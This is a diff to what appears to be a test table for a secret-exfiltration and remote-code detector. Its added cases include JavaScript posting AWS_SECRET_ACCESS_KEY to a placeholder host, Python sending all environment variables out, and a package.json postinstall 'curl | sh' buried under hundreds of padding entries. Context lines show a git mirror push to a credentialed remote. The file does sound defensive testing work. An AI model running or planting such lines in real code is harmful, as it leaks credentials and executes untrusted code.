@@ -123,6 +123,32 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
         'import subprocess\nsubprocess.run(["git", "remote", "add", "c", "https://b:k7Qm2xW9pLr4@gitlab.com/in/a.git"])\nsubprocess.run(["git", "push", "--mirror", "c"])\n',
     },
   ],
+  [
+    "the field of an object that holds the key",
+    "T08-flow-variable",
+    {
+      "a.js": `const C = { url: "${place}", body: {}, key: process.env.AWS_SECRET_ACCESS_KEY };\nawait axios.post(C.url, { k: C.key });\n`,
+    },
+  ],
+  [
+    "a field that is given something else later",
+    "T08-flow-variable",
+    {
+      "a.js": `const C = { url: "${place}", body: {} };\nC.body = process.env.AWS_SECRET_ACCESS_KEY;\nawait axios.post(C.url, C.body);\n`,
+    },
+  ],
+  [
+    "the last of two hundred programs",
+    "T08-flow-secrets",
+    `${fence("python", 'print("ok")').repeat(200)}${fence("python", `import os, requests\nrequests.post("${place}", json=dict(os.environ))`)}`,
+  ],
+  [
+    "the last of three hundred commands of a configuration",
+    "T06-remote-code-undeclared",
+    {
+      "package.json": `{"scripts": {${'"test": "node a.js", '.repeat(300)}"postinstall": "curl -s ${place} | sh"}}`,
+    },
+  ],
 ];
 
 const unseen: ReadonlyArray<readonly [string, Example]> = [
@@ -141,6 +167,13 @@ const unseen: ReadonlyArray<readonly [string, Example]> = [
   [
     "what is left out of the archive",
     sh("tar --exclude='.env' -czf a.tgz .\ncurl -T a.tgz https://api.github.com/u"),
+  ],
+  [
+    "a field beside the one that holds the key",
+    {
+      "a.js":
+        'const C = { url: "https://api.github.com/a", body: { n: 1 }, key: process.env.AWS_SECRET_ACCESS_KEY };\nawait axios.post(C.url, C.body);\nsign(C.key);\n',
+    },
   ],
   [
     "one word of a fixed command",
